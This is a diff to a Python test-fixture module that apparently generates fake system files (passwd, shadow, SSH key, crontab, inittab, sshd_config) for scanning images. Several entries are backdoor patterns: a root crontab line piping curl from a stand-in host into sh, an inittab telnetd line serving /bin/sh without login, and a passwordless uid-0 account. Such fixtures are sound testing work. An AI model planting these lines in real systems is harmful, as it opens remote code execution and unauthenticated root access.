@@ -10,6 +10,14 @@ import struct
 import zlib
 from pathlib import Path
 
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from cryptography.hazmat.primitives.serialization import (
+    Encoding,
+    NoEncryption,
+    PrivateFormat,
+    PublicFormat,
+)
+
 IMAGES = Path(__file__).parent / "images"
 
 
@@ -62,7 +70,41 @@ GEM = (
     b"--- !ruby/object:Gem::Specification\nname: hello\nversion: !ruby/object:Gem::Version\n"
     b"  version: 1.0.1\nplatform: java\nauthors:\n- A Maker\nextensions:\n- ext/hello/extconf.rb\n"
 )
+PASSWD = (
+    b"root:x:0:0:root:/root:/bin/sh\ndaemon:*:1:1::/:/usr/sbin/nologin\n"
+    b"admin::0:0::/:/bin/ash\nbare:x:5:5::/:\n"
+)
+SHADOW = (  # made up: no password is known to fit them
+    b"root:$1$fixedsalt$0123456789abcdefghijkl:1:0:99999:7:::\ndaemon:*:1:0:99999:7:::\n"
+    b"guest::1:0:99999:7:::\nold:fixedsaltAB.z:1:0:99999:7:::\n"
+)
+_PAIR = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))  # of no use to anybody
+KEY = _PAIR.private_bytes(Encoding.PEM, PrivateFormat.OpenSSH, NoEncryption())
+AUTHORISED = b'# one\ncommand="/bin/x \\"y\\"",no-pty %b a@b\n' % _PAIR.public_key().public_bytes(
+    Encoding.OpenSSH, PublicFormat.OpenSSH
+)
+UNIT = (
+    b"[Service]\n# x\nExecStart=\nExecStart=-/usr/sbin/x -D \\\n-p 2\n"
+    b"[Install]\nWantedBy=a.target\n"
+)
+INITTAB = (
+    b"# BusyBox\n::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\n"
+    b"::shutdown:/sbin/swapoff -a\n"
+)
+CRONTAB = (
+    b"SHELL=/bin/sh\n# m h\n17 *\t* * *\troot\tcurl -s https://a.example/u | sh\n"
+    b"@reboot nobody /usr/bin/x\n"
+)
 MADE = {
+    "passwd": PASSWD,
+    "shadow": SHADOW,
+    "key.pem": KEY,
+    "authorized_keys": AUTHORISED,
+    "x.service": UNIT,
+    "inittab": INITTAB,
+    "crontab": CRONTAB,
+    "sshd_config": b"Port 22\nPermitRootLogin yes\nMatch User x\nPasswordAuthentication no\n",
+    "opkg.conf": b"src/gz a http://a.example/p\noption check_signature\n",
     ".PKGINFO": PKGINFO,
     "installed": INSTALLED,
     "MANIFEST.MF": MANIFEST,
